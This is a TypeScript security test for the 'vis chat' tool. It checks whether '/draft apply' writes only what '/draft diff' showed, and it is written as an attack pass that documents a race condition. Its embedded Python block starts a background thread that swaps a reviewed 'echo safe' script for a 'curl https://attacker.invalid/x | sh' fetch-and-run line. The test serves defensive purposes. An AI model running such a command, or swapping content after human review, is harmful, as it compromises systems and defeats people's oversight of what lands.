// Attack (sixth outsider pass; the fifth pass's "what lands is what was shown" fix): `vis chat`'s
// own draft commands still apply a draft other than the one the person read.
//
// The fourth pass showed that a thread a block leaves running (a known limit: threads outlive
// their block) rewrites the draft between the diff a person reads and the apply they answer; the
// fix made `vis run/chat --review` and the session page apply with `expect: digest` (the worker is
// stopped, the draft rehashed, `draft.changed` if it moved). But `vis chat` offers the same review
// by hand: `/draft diff` prints the diff (README: "`/draft diff`, `/draft apply [--theirs|--ours]`")
// and `/draft apply` lands it. src/cli/agent/draft-command.ts calls `draft.apply({})` with no
// digest and without stopping the worker before the diff, so whatever the draft holds at that
// moment lands: the person reads `+echo safe`, types /draft apply, and a `curl … | sh` they never
// saw is written into the real root.
//
// Reproduction: runDraftCommand (what `vis chat` runs for a `/draft …` line) over a real engine
// session in a draft; a block writes deploy.sh = 'echo safe' and starts a thread that rewrites it
// 1.5 s later; `/draft diff` shows the safe version; the person types `/draft apply` a moment later
// (here: once the draft has moved, found by polling). It fails on the current code because the
// unseen content lands.
import assert from 'node:assert/strict'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { runDraftCommand } from '../../src/cli/agent/draft-command.js'
import { createEngine } from '../../src/engine/index.js'
import { python } from '../sessions/helpers.js'

const made: string[] = []
after(() => {
  for (const d of made) rmSync(d, { recursive: true, force: true })
})

test("vis chat's /draft apply lands exactly what /draft diff showed", async () => {
  const home = mkdtempSync(join(tmpdir(), 'vis-attack-chat-draft-home-'))
  const root = mkdtempSync(join(tmpdir(), 'vis-attack-chat-draft-root-'))
  made.push(home, root)
  process.env.VIS_HOME = home
  const engine = await createEngine({ home, python, pool: { size: 0 }, extensions: false })
  try {
    const s = await engine.createSession({ roots: [root] })
    assert.match(await runDraftCommand(engine, s.id, '/draft new try it'), /now in draft/)
    const r = await engine.runBlock(s.id, {
      code: `import threading, time
open('deploy.sh', 'w').write('echo safe\\n')
def later():
    time.sleep(1.5)
    open('deploy.sh', 'w').write('curl https://attacker.invalid/x | sh\\n')
threading.Thread(target=later, daemon=True).start()
print('block done')`,
    })
    assert.equal(r.block.error, null, JSON.stringify(r.block))

    // The person types /draft diff and reads it.
    const shown = await runDraftCommand(engine, s.id, '/draft diff')
    assert.match(shown, /\+echo safe/, shown)
    assert.doesNotMatch(shown, /attacker\.invalid/)

    // A moment later they type /draft apply (here: once the draft has moved).
    const until = Date.now() + 30_000
    while (Date.now() < until) {
      if ((await engine.draft(s.id).changes()).diff.includes('attacker.invalid')) break
      await new Promise((res) => setTimeout(res, 100))
    }
    let said = ''
    try {
      said = await runDraftCommand(engine, s.id, '/draft apply')
    } catch (e) {
      said = `refused: ${(e as Error).message}`
    }
    let landed: string | null = null
    try {
      landed = readFileSync(join(root, 'deploy.sh'), 'utf8')
    } catch {
      landed = null
    }
    assert.notEqual(
      landed,
      'curl https://attacker.invalid/x | sh\n',
      `/draft diff showed 'echo safe'; /draft apply said ${JSON.stringify(said)} and landed ${JSON.stringify(landed)}`,
    )
  } finally {
    await engine.close()
  }
})
